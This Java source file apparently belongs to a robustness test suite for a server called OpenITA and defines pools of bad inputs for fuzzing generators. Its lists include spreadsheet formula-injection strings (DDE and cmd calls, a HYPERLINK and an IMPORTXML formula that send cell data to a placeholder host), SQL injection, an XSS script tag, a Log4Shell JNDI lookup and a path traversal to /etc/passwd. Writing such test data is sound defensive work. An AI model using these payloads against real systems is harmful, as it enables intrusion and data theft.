package org.openita.server.hostile;

import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/** Pools of bad values the generators draw from. */
final class Junk {

    private Junk() {
    }

    /** Characters OpenITA refuses anywhere (org.openita.server.web.TextInput), as strings (a lone surrogate is one char). */
    static final List<String> REFUSED = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000B", "\u000C", "\u000E", "\u001B", "\u001F",
            "\u007F", "\u0080", "\u0085", "\u009B", "\u009F", "\uFFFE", "\uFFFF", "\uD800", "\uDBFF", "\uDC00", "\uDFFF");

    /** Text that a spreadsheet would run as a formula if it were written out unquoted. */
    static final List<String> FORMULAS = List.of("=1+1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"คลิก\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://example.invalid/\",A2),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "\t=1+1", "=SUM(A1:A9)");

    /** Values of the wrong type for a number, a year or a code. */
    static final List<String> WRONG = List.of("abc", "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "99999999999999999999999999",
            "-1", "101", "100.0000001", "1e3", "0x1F", "true", "null", "[]", "{}", "[1,2]", "{\"score\":1}", "๘๘,๕", "12,34,56", "1/2",
            "2568.5", "٢٥٦٨", "²", "½", "--1", "1..2", ".", "-", "e", "1e", "+", "๒๕๖๘๘", "25 68", "\u00A0", "\u2007", "０１２",
            "'; drop table x; --", "1' or '1'='1", "select pg_sleep(10)", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "../../../../etc/passwd", "%00", "%s%s%s%n", "\\u0000", "&#0;", "_x0000_", "ERROR:#REF!", "#DIV/0!", "#N/A");

    /** A string of {@code length} characters: repeated ASCII, Thai, digits or a random mix. */
    static String huge(SplittableRandom r, int length) {
        StringBuilder s = new StringBuilder(length);
        switch (r.nextInt(4)) {
            case 0 -> s.append("x".repeat(length));
            case 1 -> {
                String thai = "องค์การบริหารส่วนตำบล";
                while (s.length() < length) {
                    s.append(thai);
                }
                s.setLength(length);
            }
            case 2 -> {
                while (s.length() < length) {
                    s.append((char) ('0' + r.nextInt(10)));
                }
            }
            default -> {
                while (s.length() < length) {
                    s.append(r.nextBoolean() ? (char) ('a' + r.nextInt(26)) : (char) (0x0E01 + r.nextInt(0x2E)));
                }
            }
        }
        return s.toString();
    }

    /** A length just over one of the limits a value or a row meets, or far over. */
    static int overLimit(SplittableRandom r, int cellLimit) {
        int[] lengths = {cellLimit + 1, cellLimit * 2, 32_768, 65_537, 70_000, 200_000, 1_100_000};
        // the longest are rarer: they cost the most to make and read
        int i = r.nextInt(100) < 85 ? r.nextInt(4) : 4 + r.nextInt(3);
        return lengths[i];
    }

    static String refused(SplittableRandom r) {
        return REFUSED.get(r.nextInt(REFUSED.size()));
    }

    static String pick(SplittableRandom r, List<String> pool) {
        return pool.get(r.nextInt(pool.size()));
    }

    /** A refused character as people read it. */
    static String name(String c) {
        return String.format(Locale.ROOT, "U+%04X", (int) c.charAt(0));
    }

    /** Inserts {@code what} at a random place in {@code s}. */
    static String insert(SplittableRandom r, String s, String what) {
        int at = s.isEmpty() ? 0 : r.nextInt(s.length() + 1);
        // never split a surrogate pair of the template (it holds none, but keep it so)
        if (at > 0 && at < s.length() && Character.isLowSurrogate(s.charAt(at))) {
            at--;
        }
        return s.substring(0, at) + what + s.substring(at);
    }

    static byte[] randomBytes(SplittableRandom r, int n) {
        byte[] b = new byte[n];
        for (int i = 0; i < n; i++) {
            b[i] = (byte) r.nextInt(256);
        }
        return b;
    }
}
